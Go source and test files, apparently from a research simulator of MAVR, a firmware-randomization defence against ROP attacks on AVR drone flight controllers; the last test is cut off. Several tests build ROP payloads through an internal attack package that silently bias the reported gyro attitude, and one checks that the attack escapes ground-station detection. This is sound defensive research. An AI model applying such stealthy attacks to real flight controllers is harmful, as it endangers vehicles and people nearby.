	small := firmware.TestApp()
	big := firmware.TestApp()
	big.Functions = 200
	big.Seed = 0x1234
	imgS, err := firmware.Generate(small, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	imgB, err := firmware.Generate(big, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	nS := len(gadget.Scan(imgS.Flash, 24))
	nB := len(gadget.Scan(imgB.Flash, 24))
	if nB <= nS {
		t.Errorf("census did not grow with function count: %d vs %d", nS, nB)
	}
}
