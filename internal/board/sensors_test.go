package board_test

import (
	"testing"
	"time"

	"mavr/internal/attack"
	"mavr/internal/board"
	"mavr/internal/gcs"
)

func TestFlightProfileDrivesGyro(t *testing.T) {
	f := board.DefaultFlightProfile()
	// Samples vary over a period and stay in byte range.
	var mn, mx byte = 255, 0
	for i := 0; i < 40; i++ {
		v := f.Sample(time.Duration(i) * f.BankPeriod / 40)
		if v < mn {
			mn = v
		}
		if v > mx {
			mx = v
		}
	}
	if mx-mn < 30 {
		t.Errorf("profile swing = %d, want a visible oscillation", mx-mn)
	}

	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Unprotected: true})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	sys.AttachFlightProfile(f)
	g := gcs.NewGroundStation(sys)
	if err := g.Fly(600 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	// The reported gyro tracks the physical truth (config byte is 0).
	if diff := int(g.Mon.LastGyro) - int(sys.TruthGyro()); diff < -25 || diff > 25 {
		t.Errorf("reported gyro %d far from truth %d", g.Mon.LastGyro, sys.TruthGyro())
	}
}

// With a flight profile attached, the stealthy attack's config
// corruption shows up as a persistent bias between reported and
// physical values — visible to us (who know the truth), invisible to
// the ground station (who only sees the reported stream).
func TestAttackBiasesReportedAttitude(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x50))
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{Unprotected: true})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	sys.AttachFlightProfile(board.DefaultFlightProfile())
	g := gcs.NewGroundStation(sys)
	if err := g.Fly(200 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	g.SendFrame(attack.Frame(payload))
	if err := g.Fly(400 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	bias := int(g.Mon.LastGyro) - int(sys.TruthGyro())
	if bias < 0x50-25 || bias > 0x50+25 {
		t.Errorf("post-attack bias = %d, want ~0x50", bias)
	}
	if g.Mon.CompromiseDetected(200 * time.Millisecond) {
		t.Error("attack flagged despite stealth")
	}
}

func TestEventLogRecordsLifecycle(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x55))
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed: 9, WatchdogTimeout: 20 * time.Millisecond,
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	fr := attack.Frame(payload)
	sys.SendToUAV(fr.MarshalOversize())
	if err := sys.Run(3 * time.Second); err != nil {
		t.Fatal(err)
	}
	kinds := make(map[board.EventKind]int)
	for _, e := range sys.Events() {
		if e.String() == "" {
			t.Fatal("event renders empty")
		}
		kinds[e.Kind]++
	}
	for _, want := range []board.EventKind{
		board.EventBoot, board.EventRandomized, board.EventFailureDetected, board.EventReflash,
	} {
		if kinds[want] == 0 {
			t.Errorf("no %v event in the timeline: %v", want, sys.Events())
		}
	}
}
