package board_test

import (
	"errors"
	"math/rand"
	"testing"
	"time"

	"mavr/internal/board"
	"mavr/internal/core"
)

// TestMasterProvisionHook proves the armory-backed path: when a
// Provision hook is configured, the master flashes the provisioned
// image verbatim, adopts its permutation, and counts the provisioning.
func TestMasterProvisionHook(t *testing.T) {
	img := testImage(t)
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}

	// A stand-in armory: deterministic permutation per epoch.
	var epochs []int
	provision := func(epoch int) (*board.Provisioned, error) {
		epochs = append(epochs, epoch)
		perm := core.Permutation(rand.New(rand.NewSource(int64(1000+epoch))), len(pre.Blocks))
		r, err := core.Randomize(pre, perm)
		if err != nil {
			return nil, err
		}
		return &board.Provisioned{Image: r.Image, Perm: perm}, nil
	}

	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed:      7,
		Provision: provision,
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	rep, err := sys.Boot()
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Randomized {
		t.Fatal("first boot did not randomize")
	}
	if len(epochs) != 1 || epochs[0] != 0 {
		t.Fatalf("provision epochs = %v, want [0]", epochs)
	}
	wantPerm := core.Permutation(rand.New(rand.NewSource(1000)), len(pre.Blocks))
	got := sys.Master.CurrentPerm()
	if len(got) != len(wantPerm) {
		t.Fatalf("current perm length %d, want %d", len(got), len(wantPerm))
	}
	for i := range got {
		if got[i] != wantPerm[i] {
			t.Fatalf("master did not adopt the provisioned permutation (index %d: %d != %d)", i, got[i], wantPerm[i])
		}
	}
	st := sys.Master.Stats()
	if st.ArmoryProvisioned != 1 || st.ArmoryFallbacks != 0 {
		t.Fatalf("provisioned=%d fallbacks=%d, want 1 and 0", st.ArmoryProvisioned, st.ArmoryFallbacks)
	}

	// The provisioned firmware must actually fly.
	if err := sys.Run(50 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if sys.LastFault() != nil {
		t.Fatalf("provisioned firmware faulted: %v", sys.LastFault())
	}
	if len(sys.DrainGCS()) == 0 {
		t.Error("no telemetry from provisioned firmware")
	}

	// Detection response advances the epoch: each re-randomization is a
	// distinct armory holder.
	if _, err := sys.Master.HandleFailure(sys.Now()); err != nil {
		t.Fatal(err)
	}
	if len(epochs) != 2 || epochs[1] != 1 {
		t.Fatalf("provision epochs after failure = %v, want [0 1]", epochs)
	}
	if st := sys.Master.Stats(); st.ArmoryProvisioned != 2 {
		t.Fatalf("provisioned = %d after failure response, want 2", st.ArmoryProvisioned)
	}
}

// TestMasterProvisionFallback proves graceful degradation: a failing
// hook must not ground the vehicle — the master randomizes in-process
// and counts the fallback.
func TestMasterProvisionFallback(t *testing.T) {
	img := testImage(t)
	calls := 0
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed: 7,
		Provision: func(epoch int) (*board.Provisioned, error) {
			calls++
			return nil, errors.New("armory unreachable")
		},
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	rep, err := sys.Boot()
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Randomized {
		t.Fatal("fallback boot did not randomize")
	}
	if calls != 1 {
		t.Fatalf("provision hook called %d times, want 1", calls)
	}
	st := sys.Master.Stats()
	if st.ArmoryProvisioned != 0 || st.ArmoryFallbacks != 1 {
		t.Fatalf("provisioned=%d fallbacks=%d, want 0 and 1", st.ArmoryProvisioned, st.ArmoryFallbacks)
	}
	if sys.Master.CurrentPerm() == nil {
		t.Fatal("fallback did not install a permutation")
	}
	if err := sys.Run(50 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if sys.LastFault() != nil {
		t.Fatalf("fallback firmware faulted: %v", sys.LastFault())
	}
}
