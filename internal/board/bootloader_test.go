package board_test

import (
	"bytes"
	"testing"
	"time"

	"mavr/internal/avr"
	"mavr/internal/board"
	"mavr/internal/firmware"
)

// The resident bootloader really programs flash: pages go over USART1,
// the bootloader executes SPM erase/fill/write sequences, and the
// resulting flash matches the image bit for bit.
func TestBootloaderProgramsFlashViaSPM(t *testing.T) {
	img := testImage(t)
	app := board.NewAppProcessor()
	app.InstallBootloader(img.Bootloader, firmware.BootloaderStart)

	cycles, err := app.ProgramViaBootloader(img.Flash)
	if err != nil {
		t.Fatalf("bootloader programming failed: %v", err)
	}
	if cycles == 0 {
		t.Fatal("no cycles consumed")
	}
	// Flash content matches (the bootloader pads the last page with
	// erased bytes).
	if !bytes.Equal(app.CPU.Flash[:len(img.Flash)], img.Flash) {
		for i := range img.Flash {
			if app.CPU.Flash[i] != img.Flash[i] {
				t.Fatalf("flash mismatch at byte 0x%X: 0x%02X vs 0x%02X",
					i, app.CPU.Flash[i], img.Flash[i])
			}
		}
	}
	// The resident bootloader is still there (boot section untouched).
	for i, b := range img.Bootloader {
		if app.CPU.Flash[int(firmware.BootloaderStart)+i] != b {
			t.Fatal("bootloader destroyed by programming")
		}
	}
	t.Logf("programmed %d bytes in %d bootloader cycles (%.1f cycles/byte)",
		len(img.Flash), cycles, float64(cycles)/float64(len(img.Flash)))

	// And the programmed application must fly.
	app.Reset(true)
	if fault := app.RunCycles(500_000); fault != nil {
		t.Fatalf("application faulted after bootloader programming: %v", fault)
	}
}

// ProgramViaBootloader on an ISP build (no resident bootloader) fails
// loudly.
func TestBootloaderProgrammingRequiresResidentLoader(t *testing.T) {
	spec := firmware.TestApp()
	spec.Bootloader = false
	img, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	app := board.NewAppProcessor()
	if _, err := app.ProgramViaBootloader(img.Flash); err == nil {
		t.Fatal("programming succeeded without a bootloader")
	}
}

// A full MAVR board with instruction-level programming behaves exactly
// like the modeled one: boot randomizes through the real SPM path and
// the vehicle flies.
func TestMasterInstructionLevelProgramming(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed:                        6,
		InstructionLevelProgramming: true,
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	rep, err := sys.Boot()
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Randomized {
		t.Fatal("no randomization")
	}
	if err := sys.Run(50 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if sys.LastFault() != nil {
		t.Fatalf("fault: %v", sys.LastFault())
	}
	if len(sys.DrainGCS()) == 0 {
		t.Error("no telemetry after instruction-level programming")
	}
}

// Direct SPM semantics: erase, buffer fill, page write.
func TestSPMSemantics(t *testing.T) {
	c := avr.New()
	// Program: fill one word into the buffer, erase the page at Z,
	// write the page, then sleep. r0:r1 hold the word.
	img := []byte{
		// ldi r30, 0x00 ; ldi r31, 0x02  (Z = 0x0200, page 2)
		0xE0, 0xE0, 0xF2, 0xE0,
		// erase: ldi r24, 0x03 ; sts SPMCSR, r24 ; spm
		0x83, 0xE0, 0x80, 0x93, 0x57, 0x00, 0xE8, 0x95,
		// fill: ldi r24, 0x01 ; sts SPMCSR ; spm
		0x81, 0xE0, 0x80, 0x93, 0x57, 0x00, 0xE8, 0x95,
		// write: ldi r24, 0x05 ; sts SPMCSR ; spm
		0x85, 0xE0, 0x80, 0x93, 0x57, 0x00, 0xE8, 0x95,
		// sleep
		0x88, 0x95,
	}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	c.SetReg(0, 0xAD)
	c.SetReg(1, 0xDE)
	for i := 0; i < 40 && c.Step() == nil; i++ {
	}
	if c.Fault() != nil {
		t.Fatalf("fault: %v", c.Fault())
	}
	if c.Flash[0x200] != 0xAD || c.Flash[0x201] != 0xDE {
		t.Errorf("page word = %02X %02X, want AD DE", c.Flash[0x200], c.Flash[0x201])
	}
	// The rest of the page was erased.
	for i := 0x202; i < 0x300; i++ {
		if c.Flash[i] != 0xFF {
			t.Fatalf("byte 0x%X not erased: 0x%02X", i, c.Flash[i])
		}
	}
}
