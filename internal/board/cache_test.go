package board_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/board"
	"mavr/internal/firmware"
)

// Reprogramming through the resident bootloader must leave no stale
// predecoded instructions behind: run application A long enough to warm
// the decode cache, rewrite the same pages with application B via the
// real SPM programming path, and check B's behavior (a different store
// to SRAM) after reset.
func TestBootloaderReprogrammingInvalidatesDecodeCache(t *testing.T) {
	imgA, err := asm.Assemble(`
		ldi r16, 0xAA
		sts 0x0400, r16
	haltA:
		rjmp haltA
	`)
	if err != nil {
		t.Fatal(err)
	}
	imgB, err := asm.Assemble(`
		ldi r16, 0x55
		sts 0x0400, r16
	haltB:
		rjmp haltB
	`)
	if err != nil {
		t.Fatal(err)
	}

	boot := testImage(t)
	app := board.NewAppProcessor()
	app.InstallBootloader(boot.Bootloader, firmware.BootloaderStart)

	if _, err := app.ProgramViaBootloader(imgA); err != nil {
		t.Fatalf("program A: %v", err)
	}
	app.Reset(true)
	if fault := app.RunCycles(1000); fault != nil {
		t.Fatalf("image A faulted: %v", fault)
	}
	if got := app.CPU.Data[0x0400]; got != 0xAA {
		t.Fatalf("image A: data[0x0400] = 0x%02X, want 0xAA", got)
	}

	if _, err := app.ProgramViaBootloader(imgB); err != nil {
		t.Fatalf("program B: %v", err)
	}
	app.Reset(true)
	app.CPU.Data[0x0400] = 0
	if fault := app.RunCycles(1000); fault != nil {
		t.Fatalf("image B faulted: %v", fault)
	}
	if got := app.CPU.Data[0x0400]; got != 0x55 {
		t.Errorf("image B: data[0x0400] = 0x%02X, want 0x55 (stale decode cache after reprogramming?)", got)
	}
}
