package board

// Internal test: needs the unexported tamper hook to model a defective
// rewriter, which no public API exposes (on purpose).

import (
	"strings"
	"testing"

	"mavr/internal/core"
	"mavr/internal/firmware"
	"mavr/internal/staticverify"
)

func tamperSystem(t *testing.T, cfg MasterConfig) *System {
	t.Helper()
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	sys := NewSystem(SystemConfig{Master: cfg})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	return sys
}

// A master handed a randomization outcome with one unpatched call must
// refuse to flash it: the verification gate catches the defect before
// it bricks the board.
func TestMasterRejectsUnpatchedImage(t *testing.T) {
	sys := tamperSystem(t, MasterConfig{Seed: 11})
	sys.Master.tamper = func(pre *core.Preprocessed, r *core.Randomized) {
		if _, err := staticverify.RevertPatch(pre, r, 40); err != nil {
			t.Fatal(err)
		}
	}
	_, err := sys.Boot()
	if err == nil {
		t.Fatal("master flashed an image with an unpatched transfer")
	}
	if !strings.Contains(err.Error(), "static verification rejected") {
		t.Fatalf("wrong rejection error: %v", err)
	}
	if got := sys.Master.Stats().VerifyRejections; got != 1 {
		t.Fatalf("VerifyRejections = %d, want 1", got)
	}
	if sys.Master.Stats().ProgramCycles != 0 {
		t.Fatal("rejected image still consumed a program cycle")
	}
}

// SkipVerify restores the old trust-the-rewriter behavior.
func TestMasterSkipVerifyFlashesAnyway(t *testing.T) {
	sys := tamperSystem(t, MasterConfig{Seed: 11, SkipVerify: true})
	sys.Master.tamper = func(pre *core.Preprocessed, r *core.Randomized) {
		if _, err := staticverify.RevertPatch(pre, r, 40); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatalf("SkipVerify master refused to flash: %v", err)
	}
}

// An untampered randomization passes the gate: the verifier does not
// get in the way of normal boots.
func TestMasterVerifyPassesCleanImage(t *testing.T) {
	sys := tamperSystem(t, MasterConfig{Seed: 11})
	rep, err := sys.Boot()
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Randomized {
		t.Fatal("first boot did not randomize")
	}
	if got := sys.Master.Stats().VerifyRejections; got != 0 {
		t.Fatalf("VerifyRejections = %d, want 0", got)
	}
}
