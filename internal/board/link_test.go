package board_test

import (
	"runtime"
	"sync"
	"testing"
	"time"

	"mavr/internal/board"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// The telemetry link endpoints must be safe to use from goroutines
// other than the driver: cmd/mavr-fleetd shuttles uplink/downlink
// bytes from its UDP read loop while a per-vehicle goroutine advances
// the simulation. Run under -race this test exercises that contract.
func TestLinkEndpointsConcurrentWithRun(t *testing.T) {
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{Unprotected: true})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}

	done := make(chan struct{})
	var wg sync.WaitGroup

	// Uplink sender: a "network" goroutine injecting PARAM_SET frames.
	wg.Add(1)
	go func() {
		defer wg.Done()
		seq := byte(0)
		for {
			select {
			case <-done:
				return
			default:
			}
			ps := &mavlink.ParamSet{ParamID: "RATE_RLL_P", TargetSystem: 1}
			fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, SysID: 255, Seq: seq, Payload: ps.Marshal()}
			seq++
			sys.SendToUAV(fr.MarshalOversize())
			// Yield rather than sleep: the interleaving with the driver
			// goroutine is what's under test, not wall-clock pacing.
			runtime.Gosched()
		}
	}()

	// Downlink drainer: a "network" goroutine collecting telemetry.
	var drained int
	var drainedMu sync.Mutex
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-done:
				return
			default:
			}
			n := len(sys.DrainGCS())
			_ = sys.Now()
			drainedMu.Lock()
			drained += n
			drainedMu.Unlock()
			runtime.Gosched()
		}
	}()

	// Driver goroutine: advance 200ms of simulated flight.
	for i := 0; i < 20; i++ {
		if err := sys.Run(10 * time.Millisecond); err != nil {
			t.Fatal(err)
		}
	}
	close(done)
	wg.Wait()

	drainedMu.Lock()
	total := drained
	drainedMu.Unlock()
	total += len(sys.DrainGCS())
	if total == 0 {
		t.Fatal("no downlink bytes observed by the concurrent drainer")
	}
}

// Back-to-back sends from different goroutines must be serialized onto
// the half-duplex link: all bytes arrive, in order within each send.
func TestSendToUAVSerializesTransmissions(t *testing.T) {
	sys := board.NewSystem(board.SystemConfig{Unprotected: true})
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sys.SendToUAV(make([]byte, 32))
		}()
	}
	wg.Wait()
	// 256 bytes at 57600 baud, 10 bits per byte: the last byte must be
	// scheduled no earlier than the full serialized transmission time.
	byteTime := time.Duration(10 * int64(time.Second) / board.TelemetryBaud)
	want := 256 * byteTime
	if err := sys.Run(want + 10*time.Millisecond); err != nil {
		t.Fatal(err)
	}
}
