package board

import (
	"fmt"
	"math/rand"
	"time"

	"mavr/internal/core"
	"mavr/internal/staticverify"
)

// Programming-path timing (paper §VII-B1): the prototype's master
// programs the application processor over a 115200-baud serial
// bootloader — about 11.5 bytes per millisecond, the startup-overhead
// bottleneck. Reading from the SPI flash and patching are streamed and
// overlap the serial transfer.
const (
	// DefaultProgramBaud is the prototype's bootloader baud rate.
	DefaultProgramBaud = 115200
	// ProductionProgramBaud approximates the paper's production
	// estimate, where impedance-controlled traces allow mega-baud rates
	// and internal flash write speed (~4 s for ArduPlane) dominates.
	ProductionProgramBaud = 553600
	// FlashEndurance is the ATmega2560 program-memory endurance
	// (10,000 cycles), the reason §V-C randomizes on a schedule rather
	// than every boot.
	FlashEndurance = 10000
)

// MasterConfig tunes the master processor's policy.
type MasterConfig struct {
	// ProgramBaud is the master->application programming rate.
	ProgramBaud int
	// RandomizeEvery reprograms with a fresh permutation every Nth boot
	// (1 = every boot). Failed-attack detection always re-randomizes.
	RandomizeEvery int
	// WatchdogTimeout is how long the master waits for a feed pulse
	// before declaring a failed attack (§V-A2 timing analysis).
	WatchdogTimeout time.Duration
	// InstructionLevelProgramming routes every reprogramming through
	// the resident bootloader's page protocol executed on the
	// application core (SPM sequences and all) instead of the modeled
	// write. Timing accounting is identical; this verifies the §VI-B4
	// path end to end.
	InstructionLevelProgramming bool
	// Seed drives the master's permutation source.
	Seed int64
	// SkipVerify disables the static patch-completeness check the
	// master runs before flashing a freshly randomized image (§VI-B: a
	// single missed patch bricks the board or leaves a stable gadget).
	SkipVerify bool
	// Provision, when set, fetches a pre-randomized, pre-verified and
	// signed image from the fleet armory instead of randomizing
	// in-process. It is called with the vehicle's re-randomization
	// epoch (the count of randomizations so far, so every call is a
	// distinct armory holder). A nil result or error degrades
	// gracefully to the in-process randomization path, counted in
	// MasterStats.ArmoryFallbacks.
	Provision func(epoch int) (*Provisioned, error)
}

// Provisioned is an externally randomized image as handed back by the
// armory: the patched flash image and the permutation it applied. The
// armory statically verified the image and the client checked its
// digest and signature, so the master flashes it without re-verifying.
type Provisioned struct {
	Image []byte
	Perm  []int
}

func (c MasterConfig) withDefaults() MasterConfig {
	if c.ProgramBaud == 0 {
		c.ProgramBaud = DefaultProgramBaud
	}
	if c.RandomizeEvery == 0 {
		c.RandomizeEvery = 1
	}
	if c.WatchdogTimeout == 0 {
		c.WatchdogTimeout = 50 * time.Millisecond
	}
	return c
}

// StartupReport is one boot's programming cost (Table II).
type StartupReport struct {
	// Randomized says whether this boot reprogrammed the processor.
	Randomized bool
	// ImageBytes transferred.
	ImageBytes int
	// TransferTime is the serial programming time (the bottleneck).
	TransferTime time.Duration
	// Total startup overhead attributable to MAVR.
	Total time.Duration
}

// MasterStats aggregates the master's lifetime counters.
type MasterStats struct {
	Boots            int
	Randomizations   int
	FailuresDetected int
	ProgramCycles    int // flash endurance consumption
	// VerifyRejections counts images the pre-flash static verifier
	// refused to program.
	VerifyRejections int
	// ArmoryProvisioned counts randomizations satisfied by the armory
	// Provision hook; ArmoryFallbacks counts hook failures that fell
	// back to in-process randomization.
	ArmoryProvisioned int
	ArmoryFallbacks   int
}

// Master is the ATmega1284P that owns the external flash, randomizes
// the binary and programs the application processor.
type Master struct {
	cfg   MasterConfig
	rng   *rand.Rand
	flash *ExternalFlash
	app   *AppProcessor

	lastFeed       time.Duration
	stats          MasterStats
	currentPerm    []int
	now            func() time.Duration
	expectBoot     bool
	unexpectedBoot bool

	// tamper, when set, mutates the randomization outcome before
	// verification — test instrumentation modeling a defective or
	// compromised rewriter.
	tamper func(*core.Preprocessed, *core.Randomized)
	// onRandomize, when set, observes every in-process randomization
	// outcome that passed verification, just before it is flashed (see
	// Instrument).
	onRandomize func(*core.Preprocessed, *core.Randomized)
}

// NewMaster wires a master processor to its flash chip and application
// processor. The now function supplies the simulated clock.
func NewMaster(cfg MasterConfig, flash *ExternalFlash, app *AppProcessor, now func() time.Duration) *Master {
	c := cfg.withDefaults()
	m := &Master{
		cfg:   c,
		rng:   rand.New(rand.NewSource(c.Seed)),
		flash: flash,
		app:   app,
		now:   now,
	}
	app.onFeed = func() { m.lastFeed = m.now() }
	app.onBoot = func() {
		if m.expectBoot {
			m.expectBoot = false
			m.lastFeed = m.now()
			return
		}
		// The application restarted without the master commanding it: a
		// failed attack crashed the board into the reset vector.
		m.unexpectedBoot = true
	}
	return m
}

// Stats returns the master's counters.
func (m *Master) Stats() MasterStats { return m.stats }

// CurrentPerm exposes the active permutation (test instrumentation —
// physically unobservable thanks to the readout fuse).
func (m *Master) CurrentPerm() []int { return append([]int(nil), m.currentPerm...) }

// Instrument registers an observer for every in-process randomization
// outcome the master accepts, invoked after verification and before
// programming (test instrumentation — the soundness oracle captures
// each epoch's layout here; physically unobservable like CurrentPerm).
func (m *Master) Instrument(f func(*core.Preprocessed, *core.Randomized)) {
	m.onRandomize = f
}

// Boot performs one power-on: depending on the randomization schedule
// it either reprograms the application processor with a freshly
// randomized binary or starts the existing one (§V-C).
func (m *Master) Boot(now time.Duration) (StartupReport, error) {
	m.stats.Boots++
	needRandomize := m.currentPerm == nil ||
		(m.cfg.RandomizeEvery > 0 && (m.stats.Boots-1)%m.cfg.RandomizeEvery == 0)
	if !needRandomize {
		m.expectBoot = true
		m.app.Reset(true)
		m.lastFeed = now
		return StartupReport{}, nil
	}
	return m.randomizeAndProgram(now)
}

// HandleFailure is invoked when the watchdog detects a failed ROP
// attack: reset the board and immediately re-randomize (§V-D).
func (m *Master) HandleFailure(now time.Duration) (StartupReport, error) {
	m.stats.FailuresDetected++
	return m.randomizeAndProgram(now)
}

// Poll runs the master's timing analysis: if the application processor
// has not fed the watchdog within the timeout, a failed attack is
// assumed. It returns the programming report when a reflash occurred.
func (m *Master) Poll(now time.Duration) (*StartupReport, error) {
	if m.currentPerm == nil {
		return nil, nil
	}
	if !m.unexpectedBoot && now-m.lastFeed <= m.cfg.WatchdogTimeout {
		return nil, nil
	}
	m.unexpectedBoot = false
	rep, err := m.HandleFailure(now)
	if err != nil {
		return nil, err
	}
	return &rep, nil
}

func (m *Master) randomizeAndProgram(now time.Duration) (StartupReport, error) {
	image, perm, err := m.nextImage()
	if err != nil {
		return StartupReport{}, err
	}
	if m.cfg.InstructionLevelProgramming {
		if _, err := m.app.ProgramViaBootloader(image); err != nil {
			return StartupReport{}, err
		}
	} else if err := m.app.Program(image); err != nil {
		return StartupReport{}, err
	}
	m.app.ReadoutFuse = true
	m.expectBoot = true
	m.app.Reset(true)
	m.currentPerm = perm
	m.stats.Randomizations++
	m.stats.ProgramCycles++
	m.lastFeed = now + m.transferTime(len(image)) // feeds start after boot

	rep := StartupReport{
		Randomized:   true,
		ImageBytes:   len(image),
		TransferTime: m.transferTime(len(image)),
	}
	rep.Total = rep.TransferTime
	return rep, nil
}

// nextImage produces the next randomized image to flash: from the
// armory when a Provision hook is configured and reachable, otherwise
// randomized and verified in-process.
func (m *Master) nextImage() ([]byte, []int, error) {
	if m.cfg.Provision != nil {
		if p, err := m.cfg.Provision(m.stats.Randomizations); err == nil && p != nil {
			m.stats.ArmoryProvisioned++
			return p.Image, p.Perm, nil
		}
		// Armory unreachable or rejected the request: the vehicle must
		// still be able to re-randomize on its own (§V-D — detection
		// response cannot depend on ground infrastructure).
		m.stats.ArmoryFallbacks++
	}
	pre, err := m.flash.Load()
	if err != nil {
		return nil, nil, err
	}
	perm := core.Permutation(m.rng, len(pre.Blocks))
	r, err := core.Randomize(pre, perm)
	if err != nil {
		return nil, nil, fmt.Errorf("board: randomize: %w", err)
	}
	if m.tamper != nil {
		m.tamper(pre, r)
	}
	if !m.cfg.SkipVerify {
		rep := staticverify.Verify(pre, r, staticverify.Options{Gadgets: false})
		if !rep.OK() {
			m.stats.VerifyRejections++
			return nil, nil, fmt.Errorf("board: static verification rejected image: %d errors (first: %s)",
				rep.Errors(), rep.Findings[0])
		}
	}
	if m.onRandomize != nil {
		m.onRandomize(pre, r)
	}
	return r.Image, perm, nil
}

// transferTime is the serial programming duration: 10 bits per byte at
// the configured baud rate. Flash reading and patching stream
// concurrently, so the serial link is the critical path (§VII-B1).
func (m *Master) transferTime(bytes int) time.Duration {
	return time.Duration(int64(bytes) * 10 * int64(time.Second) / int64(m.cfg.ProgramBaud))
}
