// Package board simulates the MAVR hardware platform (paper §V-A,
// §VI-A, Figs. 7-8): the ATmega2560 application processor, the
// ATmega1284P master processor, the M95M02 external SPI flash holding
// the preprocessed binary, the serial programming link between master
// and application processor, the watchdog-style failure detection, and
// the ground-station telemetry link — all on a single simulated clock,
// so Table II's startup overhead is a measured quantity.
package board

import (
	"errors"
	"fmt"

	"mavr/internal/core"
)

// ExternalFlashCapacity is the M95M02-DR capacity (2 Mbit), matching
// the application processor's flash size as §V-A1 requires.
const ExternalFlashCapacity = 256 * 1024

// ExternalFlash models the external SPI EEPROM that stores the original
// unrandomized binary plus the prepended symbol information. It is the
// only entry point for new code; the application processor never reads
// it, which isolates the original binary from the randomized one.
type ExternalFlash struct {
	capacity int
	pre      *core.Preprocessed
	used     int
}

// ErrFlashFull is returned when the preprocessed image exceeds the
// chip (the exhaustion failure mode §VI-B2 warns about).
var ErrFlashFull = errors.New("board: preprocessed image exceeds external flash capacity")

// NewExternalFlash returns an empty chip of the given capacity (0 means
// the M95M02 default).
func NewExternalFlash(capacity int) *ExternalFlash {
	if capacity == 0 {
		capacity = ExternalFlashCapacity
	}
	return &ExternalFlash{capacity: capacity}
}

// Store writes the preprocessed binary onto the chip at flashing time.
func (f *ExternalFlash) Store(p *core.Preprocessed) error {
	size := StoredSize(p)
	if size > f.capacity {
		return fmt.Errorf("%w: %d > %d bytes", ErrFlashFull, size, f.capacity)
	}
	f.pre = p
	f.used = size
	return nil
}

// Load returns the stored preprocessed binary.
func (f *ExternalFlash) Load() (*core.Preprocessed, error) {
	if f.pre == nil {
		return nil, errors.New("board: external flash is empty")
	}
	return f.pre, nil
}

// Used reports the bytes in use; Capacity the chip size.
func (f *ExternalFlash) Used() int     { return f.used }
func (f *ExternalFlash) Capacity() int { return f.capacity }

// StoredSize is the binary footprint of a preprocessed image on the
// chip: the flat binary plus the prepended symbol information — per
// §VI-B2 only the ascending list of function start addresses (block
// sizes are implied by the next start; names are irrelevant to the
// master) and the function-pointer locations.
func StoredSize(p *core.Preprocessed) int {
	return 16 + len(p.Image) + 4*len(p.Blocks) + 4*len(p.PtrOffsets)
}
