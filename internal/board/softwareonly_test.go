package board_test

import (
	"testing"
	"time"

	"mavr/internal/attack"
	"mavr/internal/avr"
	"mavr/internal/board"
	"mavr/internal/firmware"
)

// §VIII-A: the rejected software-only design randomizes once at flash
// time. It flies, and a stale attack fails against it...
func TestSoftwareOnlyBoardFliesAndResistsStaleAttack(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x55))
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{SoftwareOnly: true, SoftwareSeed: 77})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
